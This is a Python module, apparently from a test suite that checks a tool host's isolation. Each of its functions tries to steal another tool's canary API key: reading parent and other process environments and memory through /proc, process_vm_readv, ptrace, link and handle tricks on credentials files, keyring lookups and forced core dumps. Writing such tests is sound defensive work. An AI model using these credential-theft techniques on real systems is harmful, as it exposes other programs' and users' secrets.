"""Another tool's credentials."""

from __future__ import annotations

import ctypes
import os
import re
import resource
import signal
import tempfile

from ..system_calls import AT_FDCWD, call
from ..table import FORGED, OUTLIVES, STOLEN, NothingFound, attack

_KEY = re.compile(rb"canary-[a-z]+-[0-9a-f]{24}")  # what the keys of the scene look like
_VARIABLE = "STRONGROOM_API_KEY"
_CHUNK_BYTES = 1 << 20
_MOST_BYTES = 512 << 20


@attack(STOLEN)
def key_in_os_environ(scene):
    """Reads another tool's key from os.environ."""
    return os.environ[_VARIABLE]


@attack(STOLEN)
def key_in_c_environment(scene):
    """Reads another tool's key from the environment that C sees."""
    getenv = ctypes.CDLL(None).getenv
    getenv.restype = ctypes.c_char_p
    return (getenv(_VARIABLE.encode()) or b"").decode()


@attack(STOLEN)
def key_in_environment_block(scene):
    """Reads another tool's key from /proc/self/environ, which shows the environment as it was at the start."""
    return _keys_of("/proc/self/environ")


@attack(STOLEN)
def key_in_own_memory(scene):
    """Searches all of its own memory for what the host had in it before the call."""
    return _search_memory("self")


@attack(STOLEN)
def key_in_parents_environment(scene):
    """Reads another tool's key from the environment of the host's process."""
    return _keys_of(f"/proc/{os.getppid()}/environ")


@attack(STOLEN)
def key_in_parents_memory(scene):
    """Searches the memory of the host's process through /proc."""
    return _search_memory(str(os.getppid()))


@attack(STOLEN)
def key_by_process_vm_readv(scene):
    """Reads the stack of the host's process, where its environment is, with process_vm_readv."""
    start, end = _range_of(os.getppid(), "[stack]")
    return _find(_read_by_system_call(os.getppid(), start, end - start))


@attack(STOLEN)
def key_by_ptrace(scene):
    """Becomes the tracer of the host's process, and reads its stack then."""
    call("ptrace", 0x4206, os.getppid(), 0, 0)  # PTRACE_SEIZE, which does not stop it
    return key_in_parents_environment(scene)


@attack(STOLEN)
def key_of_any_process(scene):
    """Reads the environment of every process of the user."""
    loot, last = [], None
    for process in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{process}/environ", "rb") as environment:
                loot += _KEY.findall(environment.read())
        except OSError as error:
            last = error
    if not loot and last:
        raise last
    return b" ".join(loot).decode()


@attack(STOLEN)
def key_of_a_neighbour(scene):
    """Reads the environment of one process of the user, which it knows by its number."""
    return _keys_of(f"/proc/{scene['victim']}/environ")


@attack(STOLEN)
def credentials_file(scene):
    """Reads the file with all credentials."""
    return _keys_of(scene["credentials"])


@attack(STOLEN)
def credentials_file_from_the_root(scene):
    """Reads the credentials file by way of /proc/self/root."""
    return _keys_of(f"/proc/self/root{scene['credentials']}")


@attack(STOLEN)
def credentials_file_of_the_parents_root(scene):
    """Reads the credentials file by way of the root of the host's process."""
    return _keys_of(f"/proc/{os.getppid()}/root{scene['credentials']}")


@attack(STOLEN)
def credentials_file_by_hard_link(scene):
    """Links the credentials file into a folder of its own, and reads it there."""
    link = os.path.join(tempfile.mkdtemp(), "mine")
    os.link(scene["credentials"], link)
    return _keys_of(link)


@attack(STOLEN)
def credentials_file_by_symbolic_link(scene):
    """Makes a symbolic link to the credentials file in a folder of its own, and reads that."""
    link = os.path.join(tempfile.mkdtemp(), "mine")
    os.symlink(scene["credentials"], link)
    return _keys_of(link)


@attack(STOLEN, root=True)
def credentials_file_by_handle(scene):
    """Opens the credentials file by a handle, which passes by all folders above it."""
    handle = ctypes.create_string_buffer(8 + 128)
    ctypes.memmove(handle, (128).to_bytes(4, "little"), 4)
    mount = ctypes.c_int()
    call("name_to_handle_at", AT_FDCWD, scene["credentials"].encode(), handle, ctypes.byref(mount), 0)
    folder = os.open(tempfile.mkdtemp(), os.O_RDONLY)
    file = call("open_by_handle_at", folder, handle, os.O_RDONLY)
    return _find(os.read(file, 4096))


@attack(STOLEN)
def credentials_file_by_openat2(scene):
    """Reads the credentials file with openat2, of which a filter cannot see the flags."""
    how = (ctypes.c_uint64 * 3)(os.O_RDONLY, 0, 0)
    file = call("openat2", AT_FDCWD, scene["credentials"].encode(), how, ctypes.sizeof(how))
    return _find(os.read(file, 4096))


@attack(STOLEN)
def key_in_the_keyring(scene):
    """Searches the user's keyring for a key that another program has put there."""
    user_keyring = -4
    key = call("keyctl", 10, user_keyring, b"user", scene["key_name"].encode(), 0)  # KEYCTL_SEARCH
    buffer = ctypes.create_string_buffer(256)
    size = call("keyctl", 11, key, buffer, 256)  # KEYCTL_READ
    return buffer.raw[:size].decode()


@attack(STOLEN)
def key_by_request_key(scene):
    """Has the kernel look for another program's key."""
    key = call("request_key", b"user", scene["key_name"].encode(), 0, -4)
    buffer = ctypes.create_string_buffer(256)
    size = call("keyctl", 11, key, buffer, 256)
    return buffer.raw[:size].decode()


@attack(OUTLIVES, fatal=True)
def core_file_of_its_own(scene):
    """Has the kernel write its memory, the host's copies of keys in it, into a core file."""
    resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    os.chdir(scene["work"])
    os.abort()


@attack(FORGED, fatal=True)
def core_file_of_the_parent(scene):
    """Has the kernel write the memory of the host's process into a core file."""
    resource.prlimit(os.getppid(), resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    os.kill(os.getppid(), signal.SIGQUIT)
    return "the signal is sent"


@attack(STOLEN)
def settings_of_other_tools(scene):
    """Reads config.toml, where other tools' settings stand."""
    return _keys_of(scene["config"])


@attack(STOLEN, host=True)
def key_by_the_hosts_context(scene):
    """Asks the host's context for another tool's credential."""
    return scene["context"].credential(_VARIABLE)


@attack(STOLEN, host=True)
def key_by_the_hosts_library(scene):
    """Has the host's own code, which runs in its process, read the credentials file."""
    from ferrule.config.credentials_file import CredentialsFile

    file = CredentialsFile(scene["credentials"])
    if file.problem:
        raise PermissionError(13, file.problem)
    return repr(file.content)


def _keys_of(path):
    with open(path, "rb") as file:
        return _find(file.read())


def _find(data):
    found = _KEY.findall(bytes(data))
    if not found:
        raise NothingFound("no key is there")
    return b" ".join(found).decode()


def _search_memory(process):
    """All keys in the memory that the process can write to."""
    loot, left = [], _MOST_BYTES
    with open(f"/proc/{process}/maps") as maps, open(f"/proc/{process}/mem", "rb", 0) as memory:
        for line in maps.readlines():
            limits, rights, *_ = line.split()
            start, end = (int(limit, 16) for limit in limits.split("-"))
            if "r" not in rights or "w" not in rights:
                continue
            while start < end and left > 0:
                memory.seek(start)
                try:
                    data = memory.read(min(_CHUNK_BYTES, end - start))
                except OSError:
                    break
                loot += _KEY.findall(data)
                start, left = start + len(data), left - len(data)
    if not loot:
        raise NothingFound("no key is in the memory")
    return b" ".join(set(loot)).decode()


def _range_of(process, name):
    with open(f"/proc/{process}/maps") as maps:
        for line in maps:
            if line.rstrip().endswith(name):
                return (int(limit, 16) for limit in line.split()[0].split("-"))
    raise NothingFound(f"no {name}")


def _read_by_system_call(process, start, size):
    buffer = ctypes.create_string_buffer(size)
    ours = (ctypes.c_uint64 * 2)(ctypes.addressof(buffer), size)
    theirs = (ctypes.c_uint64 * 2)(start, size)
    done = call("process_vm_readv", process, ours, 1, theirs, 1, 0)
    return buffer.raw[:done]
